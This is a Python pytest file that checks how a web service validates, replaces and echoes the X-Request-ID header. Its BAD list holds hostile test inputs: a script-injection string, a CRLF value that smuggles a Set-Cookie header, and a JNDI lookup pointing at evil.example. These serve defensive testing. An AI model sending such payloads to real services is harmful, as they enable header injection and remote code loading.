"""X-Request-ID: taken when sane, else made; echoed on every response."""

from uuid import uuid4

import httpx
import pytest

from . import wire
from .responses import SANE_REQUEST_ID, expect_problem, expect_success, only

SANE = ["a", "A-Z_a.z-0.9", "0" * 128, str(uuid4()), "....", "-"]
BAD: list[bytes] = [
    b"",
    b"a b",
    b"a\tb",
    b"a,b",
    b"a;b=c",
    b'"quoted"',
    b"<script>alert(1)</script>",
    b"a%0d%0aSet-Cookie:%20stolen=1",
    b"x" * 129,
    b"x" * 5000,
    "ä".encode(),
    "ä".encode("latin-1"),
    "\u0661".encode(),
    b"\xff\xfe",
    b'{"json": true}',
    b"${jndi:ldap://evil.example}",
]


@pytest.mark.parametrize("request_id", SANE)
def test_a_sane_request_id_is_echoed(client: httpx.Client, request_id: str) -> None:
    response = client.get("/health", headers={"X-Request-ID": request_id})
    assert only(expect_success(response), "X-Request-ID") == request_id


@pytest.mark.parametrize("request_id", SANE)
def test_a_problem_carries_the_request_id(client: httpx.Client, request_id: str) -> None:
    response = client.get("/nope", headers={"X-Request-ID": request_id})
    assert expect_problem(response, 404, "not_found")["request_id"] == request_id


@pytest.mark.parametrize("request_id", BAD)
def test_a_bad_request_id_is_replaced(client: httpx.Client, request_id: bytes) -> None:
    response = client.get("/nope", headers=[(b"X-Request-ID", request_id)])
    replacement = expect_problem(response, 404, "not_found")["request_id"]
    assert replacement.encode() != request_id
    assert "Set-Cookie" not in response.headers


def test_a_repeated_request_id_is_answered_with_one(client: httpx.Client) -> None:
    headers = [("X-Request-ID", "first"), ("X-Request-ID", "second")]
    assert SANE_REQUEST_ID.fullmatch(only(client.get("/health", headers=headers), "X-Request-ID"))


def test_requests_without_an_id_get_different_ones(client: httpx.Client) -> None:
    ids = {only(client.get("/health"), "X-Request-ID") for _ in range(10)}
    assert len(ids) == 10


def test_a_header_name_in_any_case_is_understood(base_url: str) -> None:
    response = wire.send(
        base_url, "GET /health HTTP/1.1", [("x-rEQUEST-iD", "mixed"), ("Connection", "close")]
    )
    assert only(expect_success(response), "X-Request-ID") == "mixed"
